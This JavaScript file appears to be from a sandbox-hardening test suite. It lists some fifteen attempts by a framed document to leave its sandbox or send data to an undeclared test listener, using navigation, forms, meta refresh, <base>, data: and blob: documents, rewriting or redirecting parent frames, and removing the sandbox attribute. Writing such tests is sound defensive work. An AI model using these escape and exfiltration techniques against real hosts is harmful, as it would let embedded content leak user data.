// Leave the document with data in the address, or put another document where the host expects this one.
// Whether it held: the listener was not reached, and the document that came instead has no channel.
{
  const { above, add, lastAttack, out, reachable } = hostile;

  hostile.group("leaving", "Leave, and send others away");

  lastAttack("leave-location", "Go to an undeclared address", ({ id }) => location.assign(out(id)));
  lastAttack("leave-link", "Follow a link in place", ({ id }) => add("a", { href: out(id) }).click());
  lastAttack("leave-download-link", "Follow a download link to an undeclared address", ({ id }) =>
    add("a", { href: out(id), download: "x" }).click(),
  );
  lastAttack("leave-refresh", "Leave by <meta http-equiv=refresh>", ({ id }) => {
    add("meta", { httpEquiv: "refresh", content: `0;url=${out(id)}` }, document.head);
  });
  lastAttack("leave-form", "Post a form in place", ({ id }) =>
    add("form", { action: out(id), method: "post" }).submit(),
  );
  lastAttack("leave-form-get", "Send a form in place by its address", ({ id }) => {
    const form = add("form", { action: out(id), method: "get" });
    add("input", { name: "secret", value: "x" }, form);
    form.submit();
  });
  lastAttack("leave-base", "Leave by a relative address under another <base>", ({ id }) => {
    add("base", { href: `${hostile.facts.http}/${hostile.run}/` }, document.head);
    add("a", { href: id }).click();
  });
  // The name of a window outlives its document: the next one knows what it is, and tells if it is heard.
  lastAttack("leave-reload", "Load the own document anew", ({ id }) => {
    self.name = `hostile ${hostile.run} ${id}`;
    location.reload();
  });
  lastAttack("leave-data", "Become a data: document", ({ id }) => {
    location.href = `data:text/html,<script>location = ${JSON.stringify(out(id))}<\/script>`;
  });
  lastAttack("leave-blob", "Become a blob: document", ({ id }) => {
    const text = `<script>location = ${JSON.stringify(out(id))}<\/script>`;
    location.href = URL.createObjectURL(new Blob([text], { type: "text/html" }));
  });
  lastAttack("leave-parent", "Send the frames above away", ({ id }) => {
    for (const window of above().slice(0, -1)) {
      try {
        window.location = out(id);
      } catch {
        // Refused; the next one above may not be.
      }
    }
  });
  lastAttack("leave-above", "Have the documents above leave by themselves", ({ id }) => {
    for (const window of reachable()) add("a", { href: out(id) }, window.document.body).click();
  });
  lastAttack("leave-swap", "Put another document into the frame of this one", ({ id }) => {
    const frame = /** @type {any} */ (self).frameElement;
    frame?.removeAttribute("sandbox");
    if (frame) frame.src = out(id);
  });
  lastAttack("leave-write", "Write a frame of an undeclared address over the documents above", ({ id }) => {
    for (const window of reachable()) {
      const target = window.document;
      target.open();
      target.write(`<img src="${out(id)}"><iframe src="${out(id)}"></iframe><script>fetch("${out(id)}")<\/script>`);
      target.close();
    }
  });
  lastAttack("proxy-policy", "Load the frame above anew with a policy of one's own", ({ id }) => {
    const csp = encodeURIComponent(
      JSON.stringify({ connectDomains: [hostile.facts.http], resourceDomains: [hostile.facts.http] }),
    );
    for (const window of reachable()) {
      const { origin, pathname } = new URL(window.location.href);
      // By a link of its own: this frame may not send that one anywhere.
      add("a", { href: `${origin}${pathname}?csp=${csp}&hostile=${id}` }, window.document.body).click();
    }
  });
}
